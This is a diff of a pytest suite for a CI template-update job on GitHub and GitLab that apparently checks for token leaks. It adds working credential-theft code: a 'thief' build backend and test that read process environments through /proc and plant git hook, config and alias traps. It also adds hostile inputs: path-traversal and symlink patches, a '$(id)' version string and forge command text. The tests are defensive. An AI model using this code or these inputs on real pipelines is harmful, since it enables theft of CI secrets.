@@ -43,13 +43,62 @@ if arguments[:2] == ["pr", "create"] and os.environ.get("GH_REFUSES"):
     sys.exit("GitHub Actions is not permitted to create or approve pull requests")
 """
 
-# A test in a service that fails where it could read a token.
-NO_TOKEN = """import os
+# What a package or a test may do that wants the token: it looks for it, and lies in wait for whoever has it.
+THIEF = """import os
+import pathlib
+import subprocess
+
+TRAP = '#!/bin/sh\\n{ echo TRAPPED; env; } >>"$STOLEN"\\n'
 
 
-def test_no_token() -> None:
-    tokens = {"TOKEN", "GH_TOKEN", "GITHUB_TOKEN", "TEMPLATE_UPDATE_TOKEN"}
-    assert not tokens & os.environ.keys()
+def steal(place: str) -> None:
+    with open(os.environ["STOLEN"], "ab") as stolen:
+        stolen.write(place.encode() + b"\\n")
+        process = "self"
+        while process != "0":
+            stolen.write(pathlib.Path(f"/proc/{process}/environ").read_bytes() + b"\\n")
+            stat = pathlib.Path(f"/proc/{process}/stat").read_text()
+            process = stat.rpartition(")")[2].split()[1]
+    checkout = pathlib.Path(os.environ["CHECKOUT"])
+    names = ["pre-push", "pre-commit", "post-checkout", "reference-transaction"]
+    for trap in [*(f".git/hooks/{name}" for name in names), "trap", ".ci/update", ".ci/with-token"]:
+        (checkout / trap).unlink(missing_ok=True)
+        (checkout / trap).write_text(TRAP)
+        (checkout / trap).chmod(0o755)
+    trap = str(checkout / "trap")
+    for key in ["core.fsmonitor", "filter.trap.clean", "core.sshCommand", "credential.helper", "diff.external"]:
+        subprocess.run(["git", "-C", checkout, "config", key, trap], check=True)
+    for alias in ["apply", "push", "fetch", "show"]:
+        subprocess.run(["git", "-C", checkout, "config", f"alias.{alias}", f"!{trap}"], check=True)
+    (checkout / ".git/info/attributes").write_text("* filter=trap\\n")
+"""
+BACKEND = """import zipfile
+
+from thief import steal
+
+INFO = {
+    "METADATA": "Metadata-Version: 2.1\\nName: thief\\nVersion: 1\\n",
+    "WHEEL": "Wheel-Version: 1.0\\nGenerator: thief\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
+    "RECORD": "",
+}
+
+
+def build_wheel(folder, config_settings=None, metadata_directory=None):
+    steal("BUILD")
+    with zipfile.ZipFile(f"{folder}/thief-1-py3-none-any.whl", "w") as wheel:
+        wheel.write("thief.py")
+        for name, text in INFO.items():
+            wheel.writestr(f"thief-1.dist-info/{name}", text)
+    return "thief-1-py3-none-any.whl"
+"""
+BACKEND_PROJECT = """[project]
+name = "thief"
+dynamic = ["version"]
+
+[build-system]
+requires = []
+build-backend = "backend"
+backend-path = ["."]
 """
 
 HOOK = """#!/bin/sh
@@ -96,72 +145,142 @@ class Project:
         release(clone, f"change-{len(git(clone, 'tag'))}", *changes)
         git(clone, "push", "--quiet", "origin", branch)
 
-    def run(self, job: str, token: str = OWN_TOKEN, **env: str) -> tuple[int, str]:
-        """Run a job's steps until one fails; give the status and all output of the last one run, and of those before."""
-        workspace = Path(self.env["WORKSPACE"])
-        shutil.rmtree(workspace, ignore_errors=True)
-        steps = self.github_steps(job, token) if self.forge == "github" else self.gitlab_steps(job, token)
-        git(self.folder, "clone", "--quiet", "--depth=1", f"file://{self.origin}", workspace)
-        if self.forge == "gitlab":
-            git(workspace, "checkout", "--quiet", "--detach")
+    def run(self, *jobs: str, token: str = OWN_TOKEN, **env: str) -> tuple[int, str]:
+        """Run jobs until a step fails; give the status of the last one, and all output."""
         output = ""
-        for script, step_env in steps:
-            result = subprocess.run(
-                # Both forges' shells stop at the first command that fails.
-                ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
-                cwd=workspace,
-                env={**self.env, "CI": "true", **step_env, **env},
-                stdin=subprocess.DEVNULL,
-                stdout=subprocess.PIPE,
-                stderr=subprocess.STDOUT,
-                text=True,
-                check=False,
-            )
-            output += result.stdout
-            if result.returncode:
-                return result.returncode, output
+        for job in jobs:
+            for script, step_env in self.steps(job, token):
+                result = subprocess.run(
+                    # Both forges' shells stop at the first command that fails.
+                    ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
+                    cwd=self.workspace,
+                    env={**self.env, "CI": "true", **step_env, **env},
+                    stdin=subprocess.DEVNULL,
+                    stdout=subprocess.PIPE,
+                    stderr=subprocess.STDOUT,
+                    text=True,
+                    check=False,
+                )
+                output += result.stdout
+                if result.returncode:
+                    return result.returncode, output
         return 0, output
 
+    def update(self, token: str = OWN_TOKEN, **env: str) -> tuple[int, str]:
+        """Run the jobs of an update."""
+        return self.run("template", "update", "propose", token=token, **env)
+
+    def propose(self, token: str = OWN_TOKEN, **env: str) -> tuple[int, str]:
+        """Run the last job, on what `hand_over` or the job before wrote."""
+        return self.run("propose", token=token, **env)
+
+    def hand_over(self, *changes: tuple[str, str], version: str = NEW, changelog: str = "", failed: str = "") -> Path:
+        """Write what an update hands over that adds texts to the ends of files; give the folder."""
+        folder, clone = self.artifacts / "update", self.folder / "update"
+        shutil.rmtree(folder, ignore_errors=True)
+        shutil.rmtree(clone, ignore_errors=True)
+        folder.mkdir(parents=True)
+        git(self.folder, "clone", "--quiet", self.origin, clone)
+        edit(clone / ".copier-answers.yml", ("_commit: [^\n]*", f"_commit: {version}"))
+        for name, text in changes:
+            with (clone / name).open("a", encoding="utf-8") as file:
+                file.write(text)
+        git(clone, "add", "--all", "--force")
+        git(clone, "diff", "--cached", "--binary", "--full-index", f"--output={folder / 'update.patch'}")
+        (folder / "changes").write_text(changelog)
+        (folder / "failed").write_text(failed)
+        return folder
+
+    @property
+    def workspace(self) -> Path:
+        """The folder that a job begins in."""
+        return Path(self.env["WORKSPACE"])
+
+    @property
+    def artifacts(self) -> Path:
+        """What jobs hand on, a folder for each name."""
+        return self.folder / "artifacts"
+
+    def checkout(self) -> None:
+        """Clone the service afresh."""
+        shutil.rmtree(self.workspace, ignore_errors=True)
+        git(self.folder, "clone", "--quiet", "--depth=1", f"file://{self.origin}", self.workspace)
+
+    def steps(self, job: str, token: str) -> Iterator[tuple[str, dict[str, str]]]:
+        """Give the script and environment of each of a job's steps that has one, and do what the others do."""
+        return (self.github_steps if self.forge == "github" else self.gitlab_steps)(job, token)
+
     def github_steps(self, job: str, token: str) -> Iterator[tuple[str, dict[str, str]]]:
-        """Give each step's script and environment; what it `uses` is this machine's."""
+        """Run a job on a new machine; Python is this machine's."""
+        temp = self.folder / "runner-temp"
+        shutil.rmtree(temp, ignore_errors=True)
+        temp.mkdir()
         for file in (self.folder / "service/.github/workflows").glob("*.yml"):
             workflow = yaml.safe_load(file.read_text(encoding="utf-8"))
             if job in workflow["jobs"]:
                 break
-        expressions = {"secrets.TEMPLATE_UPDATE_TOKEN": token, "github.token": JOB_TOKEN}
-        github = {"GITHUB_ACTIONS": "true", "GITHUB_REF_NAME": "main", "GITHUB_SERVER_URL": "https://github.com"}
+        expressions = {"secrets.TEMPLATE_UPDATE_TOKEN": token, "github.token": JOB_TOKEN, "runner.temp": str(temp)}
+
+        def expand(text: str) -> str:
+            return re.sub(r"\$\{\{ (.*?) \}\}", lambda found: expressions[found[1]], text)
+
         for step in workflow["jobs"][job]["steps"]:
-            if "uses" in step:
-                assert step["uses"].startswith(("actions/checkout@", "actions/setup-python@"))
-                continue
-            step_env = {**workflow["env"], **step.get("env", {})}
-            assert "${{" not in step["run"]
-            yield (
-                step["run"],
-                {
-                    **github,
-                    **{
-                        name: re.sub(r"\$\{\{ (.*?) \}\}", lambda found: expressions[found[1]], text)
-                        for name, text in step_env.items()
+            action = step.get("uses", "").partition("@")[0]
+            if action == "actions/checkout":
+                assert step["with"] == {"persist-credentials": False}
+                self.checkout()
+            elif action == "actions/upload-artifact":
+                artifact = self.artifacts / step["with"]["name"]
+                shutil.rmtree(artifact, ignore_errors=True)
+                shutil.copytree(expand(step["with"]["path"]), artifact, symlinks=True)
+            elif action == "actions/download-artifact":
+                shutil.copytree(
+                    self.artifacts / step["with"]["name"],
+                    expand(step["with"]["path"]),
+                    symlinks=True,
+                    dirs_exist_ok=True,
+                )
+            elif action:
+                assert action == "actions/setup-python"
+            else:
+                assert "${{" not in step["run"]
+                step_env = {**workflow["env"], **step.get("env", {})}
+                yield (
+                    step["run"],
+                    {
+                        **{"GITHUB_ACTIONS": "true", "GITHUB_REF_NAME": "main", "RUNNER_TEMP": str(temp)},
+                        "GITHUB_SERVER_URL": "https://github.com",
+                        **{name: expand(text) for name, text in step_env.items()},
                     },
-                },
-            )
+                )
 
     def gitlab_steps(self, job: str, token: str) -> Iterator[tuple[str, dict[str, str]]]:
-        """Give the script and environment of a job, which has one shell."""
+        """Run a job, which has one shell, on a runner that keeps its folder; the token's scope is one environment."""
         pipeline = yaml.safe_load((self.folder / "service/.gitlab-ci.yml").read_text(encoding="utf-8"))
         section = pipeline[{"test": "tests"}.get(job, job)]
-        gitlab = {"GITLAB_CI": "true", "CI_COMMIT_BRANCH": "main", "CI_SERVER_URL": "https://gitlab.com"}
+        section = {**pipeline["default"], **pipeline.get(section.get("extends"), {}), **section}
+        variables = {**pipeline["variables"], **section.get("variables", {})}
+        if variables.get("GIT_STRATEGY") != "none":
+            self.checkout()
+            git(self.workspace, "checkout", "--quiet", "--detach")
+        for artifact in {self.artifacts / needed for needed in section.get("needs", [])}:
+            shutil.copytree(artifact, self.workspace / "handover", symlinks=True, dirs_exist_ok=True)
+        scoped = section.get("environment") == {"name": "template-update", "action": "access"}
         yield (
-            "\n".join([*pipeline["default"]["before_script"], *section["script"]]),
+            "\n".join([*section["before_script"], *section["script"]]),
             {
-                **gitlab,
+                **{"GITLAB_CI": "true", "CI_COMMIT_BRANCH": "main", "CI_SERVER_URL": "https://gitlab.com"},
+                "CI_COMMIT_SHA": self.branches["main"],
+                "CI_PROJECT_DIR": str(self.workspace),
                 "CI_PROJECT_URL": f"file://{self.origin}".removesuffix(".git"),
-                **pipeline["variables"],
-                **section.get("variables", {}),
-                **({"TEMPLATE_UPDATE_TOKEN": token} if token else {}),
+                "CI_REPOSITORY_URL": f"file://{self.origin}",
+                **variables,
+                **({"TEMPLATE_UPDATE_TOKEN": token} if token and scoped else {}),
             },
         )
+        for path in section.get("artifacts", {}).get("paths", []):
+            shutil.rmtree(self.artifacts / job, ignore_errors=True)
+            shutil.copytree(self.workspace / path, self.artifacts / job, symlinks=True)
 
     @property
     def calls(self) -> list[dict]:
@@ -181,7 +300,7 @@ class Project:
         log = self.origin / "push-options"
         options = [line.partition("=") for line in log.read_text().splitlines()] if log.exists() else []
         titles = [text for name, _, text in options if name == "merge_request.title"]
-        bodies = [text.replace("<br>", "\n") for name, _, text in options if name == "merge_request.description"]
+        bodies = [text.replace("\\n", "\n") for name, _, text in options if name == "merge_request.description"]
         assert [name for name, _, _ in options].count("merge_request.create") == len(titles)
         assert [text for name, _, text in options if name == "merge_request.target"] == ["main"] * len(titles)
         return [
@@ -276,7 +395,7 @@ def test_nothing_is_proposed_to_a_service_that_is_up_to_date(forge, project):
     service = project(forge)
     before = service.branches
 
-    status, output = service.run("update")
+    status, output = service.update()
 
     assert status == 0, output
     assert f"{OLD} is the template's latest version" in output
@@ -294,20 +413,20 @@ def test_a_newer_version_is_proposed_with_what_changed(forge, token, project):
         service.template,
         NEW,
         ("template/docker-entrypoint.sh.jinja", "# better\n"),
-        ("template/tests/test_new.py", NO_TOKEN),
+        ("template/tests/test_new.py", "def test_new() -> None:\n    pass\n"),
     )
     service.change(("README.md", "\nOurs\n"))
     main = service.branches["main"]
 
-    status, output = service.run("update", token)
+    status, output = service.update(token)
 
     assert status == 0, output
     ((verb, title, body),) = service.requests
     assert (verb, title) == ("create", f"Update from the template: {OLD} to {NEW}")
-    assert {"`.copier-answers.yml`", "`docker-entrypoint.sh`", "`tests/test_new.py`"} == set(
-        re.findall(r"^- (`.*`) \+", body, re.M)
+    assert {".copier-answers.yml", "docker-entrypoint.sh", "tests/test_new.py"} == set(
+        re.findall(r"^    (\S+) \+\d+ -\d+$", body, re.M)
     )
-    assert "### Added\n\n- A better entry point\n" in body
+    assert "    ### Added\n    \n    - A better entry point\n" in body
     assert "The first of all" not in body
     assert service.branches.keys() == {"main", BRANCH}
     assert service.branches["main"] == main == git(service.origin, "rev-parse", f"{BRANCH}^")
@@ -323,6 +442,43 @@ def test_a_newer_version_is_proposed_with_what_changed(forge, token, project):
 
 
 @pytest.mark.parametrize("forge", FORGES)
+def test_code_of_others_neither_sees_the_token_nor_reaches_the_job_that_has_it(forge, project):
+    service = project(forge)
+    thief, stolen = service.folder / "thief", service.folder / "stolen"
+    thief.mkdir()
+    (thief / "thief.py").write_text(THIEF)
+    (thief / "backend.py").write_text(BACKEND)
+    (thief / "pyproject.toml").write_text(BACKEND_PROJECT)
+    edit(
+        service.template / "template/pyproject.toml.jinja",
+        (r"\ndependencies = \[\n", f'\ndependencies = [\n    "thief @ {thief.as_uri()}",\n'),
+    )
+    check = 'from thief import steal\n\n\ndef test_theft() -> None:\n    steal("CHECK")\n'
+    release(service.template, NEW, ("template/tests/test_theft.py", check))
+
+    status, output = service.update(STOLEN=str(stolen), CHECKOUT=str(service.workspace))
+
+    assert BRANCH in service.branches, output
+    assert "tests/test_theft.py" in service.requests[0][2]
+    found = stolen.read_text()
+    assert (status, "BUILD" in found, "CHECK" in found) == (1, True, True), output
+    assert OWN_TOKEN not in found
+    assert JOB_TOKEN not in found
+    assert "TRAPPED" not in found
+
+
+def test_an_update_refuses_to_run_where_it_could_see_the_token(project):
+    service = project("gitlab")
+    assert service.run("template")[0] == 0
+
+    # As where the variable has no scope
+    status, output = service.run("update", TEMPLATE_UPDATE_TOKEN=OWN_TOKEN)
+
+    assert status == 1
+    assert "give the variable TEMPLATE_UPDATE_TOKEN the environment scope template-update" in output
+
+
+@pytest.mark.parametrize("forge", FORGES)
 def test_a_conflict_fails_the_job_names_the_files_and_pushes_nothing(forge, project):
     service = project(forge)
     release(
@@ -335,7 +491,7 @@ def test_a_conflict_fails_the_job_names_the_files_and_pushes_nothing(forge, proj
     service.change(("etc/uwsgi.ini", "# ours\n"))
     before = service.branches
 
-    status, output = service.run("update")
+    status, output = service.update()
 
     assert status == 1, output
     named = output.partition("conflicts with this service's own edits in\n")[2].partition("\nNothing was pushed")[0]
@@ -348,26 +504,26 @@ def test_failing_tests_are_proposed_as_such_and_fail_the_job(forge, project):
     service = project(forge)
     release(service.template, NEW, ("template/src/{{ package_name }}/health.py.jinja", "import os\n"))
 
-    status, output = service.run("update")
+    status, output = service.update()
 
     assert status == 1, output
     assert "it is proposed, but its tests fail" in output
     ((_, title, body),) = service.requests
     assert title == f"Draft: Update from the template: {OLD} to {NEW}, tests fail"
-    assert "These failed:\n\n- `uv run ruff check`\n- `uv run ruff format --check`\n\n" in body
+    assert body.startswith("These failed:\n\n    uv run ruff check\n    uv run ruff format --check\n\n")
 
 
 @pytest.mark.parametrize("forge", FORGES)
 def test_an_open_request_is_refreshed(forge, project):
     service = project(forge)
-    release(service.template, NEW, ("template/docker-entrypoint.sh.jinja", "# better\n"))
-    assert service.run("update")[0] == 0
+    service.hand_over(("docker-entrypoint.sh", "# better\n"))
+    assert service.propose()[0] == 0
     proposed = service.branches
-    assert service.run("update")[0] == 0
+    assert service.propose()[0] == 0
     assert service.branches == proposed, "the same update is the same commit: no test runs again, no approval is lost"
 
-    release(service.template, NEWER, ("template/docker-entrypoint.sh.jinja", "# better still\n"))
-    status, output = service.run("update")
+    service.hand_over(("docker-entrypoint.sh", "# better still\n"), version=NEWER)
+    status, output = service.propose()
 
     assert status == 0, output
     assert service.requests[-1][:2] == ("edit", f"Update from the template: {OLD} to {NEWER}")
@@ -378,13 +534,13 @@ def test_an_open_request_is_refreshed(forge, project):
 
 def test_work_on_the_branch_is_never_overwritten(project):
     service = project("gitlab")
-    release(service.template, NEW, ("template/docker-entrypoint.sh.jinja", "# better\n"))
-    assert service.run("update")[0] == 0
+    service.hand_over()
+    assert service.propose()[0] == 0
     service.change(("README.md", "\nMended\n"), branch=BRANCH)
     before = service.branches
-    release(service.template, NEWER, ("template/docker-entrypoint.sh.jinja", "# better still\n"))
+    service.hand_over(version=NEWER)
 
-    status, output = service.run("update")
+    status, output = service.propose()
 
     assert status == 1
     assert f"the branch {BRANCH} holds someone's work: merge it, or delete it" in output
@@ -393,24 +549,24 @@ def test_work_on_the_branch_is_never_overwritten(project):
 
 def test_a_change_of_workflows_asks_for_the_token_that_may_push_it(project):
     service = project("github")
-    release(service.template, NEW, ("template/{{ '.github' if ci == 'github' }}/workflows/test.yml", "# changed\n"))
+    service.hand_over((".github/workflows/test.yml", "# changed\n"))
     before = service.branches
 
-    status, output = service.run("update", token="")
+    status, output = service.propose(token="")
     assert status == 1
     assert ".github/workflows/test.yml\nStore a token that may as the secret TEMPLATE_UPDATE_TOKEN" in output
     assert service.branches == before
 
-    status, output = service.run("update", OWN_TOKEN)
+    status, output = service.propose()
     assert status == 0, output
     assert service.proposed(".github/workflows/test.yml").endswith("# changed")
 
 
 def test_a_repository_that_lets_no_job_open_requests_says_what_to_allow(project):
     service = project("github")
-    release(service.template, NEW)
+    service.hand_over()
 
-    status, output = service.run("update", token="", GH_REFUSES="1")
+    status, output = service.propose(token="", GH_REFUSES="1")
 
     assert status == 1
     assert "Allow GitHub Actions to create pull requests" in output
@@ -418,14 +574,152 @@ def test_a_repository_that_lets_no_job_open_requests_says_what_to_allow(project)
 
 def test_gitlab_without_a_token_says_what_to_store(project):
     service = project("gitlab")
-    release(service.template, NEW)
+    service.hand_over()
     before = service.branches
 
-    status, output = service.run("update", token="")
+    status, output = service.propose(token="")
 
     assert status == 1
     assert "TEMPLATE_UPDATE_TOKEN is not set" in output
     assert service.branches == before
+
+
+FILE = """diff --git a/{0} b/{0}
+new file mode {1}
+index 0000000000000000000000000000000000000000..{2}
+--- /dev/null
++++ b/{0}
+@@ -0,0 +1 @@
++{3}
+"""
+
+
+def patch(name: str, mode: str = "100755", text: str = "x") -> str:
+    """Give what adds a file of one line."""
+    return FILE.format(name, mode, "1" * 40, text)
+
+
+@pytest.mark.parametrize("forge", FORGES)
+@pytest.mark.parametrize(
+    ("change", "reason"),
+    [
+        pytest.param(patch(".git/hooks/pre-push"), "the update doesn't apply", id="hook"),
+        pytest.param(patch("docs/.GIT/config"), "the update doesn't apply", id="configuration"),
+        pytest.param(patch("../outside"), "the update doesn't apply", id="outside"),
+        pytest.param(patch("link", "120000", "/etc"), "the update holds more than files", id="link"),
+        pytest.param(
+            patch("module", "160000", f"Subproject commit {'1' * 40}"), "the update holds more than files", id="module"
+        ),
+        pytest.param(patch("big", text="x" * 10_000_000), "the update is larger than 10 MB", id="size"),
+        pytest.param(
+            "diff --git a/missing b/missing\n--- a/missing\n+++ b/missing\n@@ -1 +1 @@\n-a\n+b\n",
+            "the update doesn't apply",
+            id="other base",
+        ),
+    ],
+)
+def test_nothing_but_files_of_the_service_is_proposed(forge, change, reason, project):
+    service = project(forge)
+    with (service.hand_over() / "update.patch").open("a") as file:
+        file.write(change)
+    before = service.branches
+
+    status, output = service.propose()
+
+    assert status == 1, output
+    assert reason in output
+    assert (service.requests, service.branches) == ([], before)
+
+
+@pytest.mark.parametrize("version", ["", "v1 fixes #1", "$(id)", "@someone"])
+def test_a_version_that_is_none_is_not_proposed(version, project):
+    service = project("github")
+    service.hand_over(version=version)
+
+    status, output = service.propose()
+
+    assert status == 1
+    assert "are no versions" in output
+    assert service.branches.keys() == {"main"}
+
+
+@pytest.mark.parametrize("forge", FORGES)
+@pytest.mark.parametrize("name", ["changes", "failed", "update.patch"])
+def test_a_link_to_the_token_is_not_followed(forge, name, project):
+    service = project(forge)
+    file = service.hand_over() / name
+    file.unlink()
+    file.symlink_to("/proc/self/environ")
+
+    status, output = service.propose()
+
+    assert status == 1
+    assert "is not as .ci/update writes it" in output
+    assert (service.requests, service.branches.keys()) == ([], {"main"})
+
+
+@pytest.mark.parametrize("forge", FORGES)
+def test_the_templates_text_makes_the_forge_do_nothing(forge, project):
+    service = project(forge)
+    acting = [
+        *("@someone", "org/team@someone", "#1", "org/repo#1", "GH-1", "gh-1", "project!1", "&1", "ABC-1", "[skip ci]"),
+        *("[ci skip]", "[no ci]", "[Skip-CI]", "https://github.com/org/repo/issues/1", "/-/merge_requests/1", "<!--"),
+    ]
+    text = "".join(f"Fixes {one}\n" for one in acting)
+    text += "\n/close\n/merge\n\\n/approve\rCo-authored-by: A <a@example.com>\n```\n</pre>\x1b[2J\n" + "x" * 70_000
+    service.hand_over((".envrc", "# ours\n"), changelog=text, failed="@someone\nuv run mypy\n")
+
+    service.propose()
+
+    ((_, _, body),) = service.requests
+    outside, inside = re.split(r"^(?=    )", body, maxsplit=1, flags=re.M)
+    assert outside == "These failed:\n\n"
+    assert [line for line in inside.splitlines() if line and not line.startswith("    ")] == [
+        "What changed in the template:",
+        "What changed in this service, by lines:",
+    ]
+    assert not [one for one in acting[:-1] if re.search(rf"(?<![\w/]){re.escape(one)}", body)]
+    assert not re.search(r"[@#!&]\w|[\x00-\x09\x0b-\x1f\x7f]|\\n", body)
+    assert len(body) < 65_536, "GitHub takes no more"
+    message = git(service.origin, "log", "-1", "--format=%B", BRANCH)
+    assert message == f"Draft: Update from the template: {OLD} to {NEW}, tests fail"
+
+
+@pytest.mark.parametrize("forge", FORGES)
+def test_a_workflow_of_an_earlier_release_fails_with_this_script(forge, project):
+    service = project(forge)
+    for old in ([".ci/update", "make"], [".ci/update", "propose"]):
+        service.checkout()
+        result = subprocess.run(
+            old,
+            cwd=service.workspace,
+            env={**service.env, "TEMPLATE_UPDATE_TOKEN": OWN_TOKEN, "GITHUB_TOKEN": JOB_TOKEN},
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        assert result.returncode == 1
+        assert "its workflow is older than this file: update the service by hand" in result.stderr
+        assert (service.requests, service.branches.keys()) == ([], {"main"})
+
+
+def test_copier_in_ci_is_exactly_what_is_pinned(project):
+    service = project("github")
+    service.checkout()
+    pinned = re.findall("^(.+)==(.+)$", (service.workspace / ".ci/copier.txt").read_text(), re.M)
+    listed = "import importlib.metadata as m; print(*(f'{d.name}=={d.version}' for d in m.distributions()))"
+
+    for python in (sys.executable, shutil.which("python", path=service.env["PATH"])):
+        installed = subprocess.run(
+            ["uvx", "--no-build", "--python", python, "--with-requirements", ".ci/copier.txt", "python", "-c", listed],
+            cwd=service.workspace,
+            env=service.env,
+            check=True,
+            stdout=subprocess.PIPE,
+            text=True,
+        ).stdout.split()
+        versions = dict(one.split("==") for one in installed)
+        assert {re.sub("[-_.]+", "-", name.lower()): version for name, version in versions.items()} == dict(pinned)
 
 
 @contextmanager
@@ -465,11 +759,11 @@ def test_a_private_template_is_read_with_the_token(project, tmp_path):
         forge = {"GITHUB_SERVER_URL": address}
 
         for token, env in (("", forge), (OWN_TOKEN, {})):
-            status, output = service.run("update", token, **env)
+            status, output = service.update(token, **env)
             assert status == 1
             assert "A private template needs TEMPLATE_UPDATE_TOKEN" in output
 
-        status, output = service.run("update", **forge)
+        status, output = service.update(**forge)
 
     assert status == 0, output
     assert service.proposed("docker-entrypoint.sh").endswith("# better")
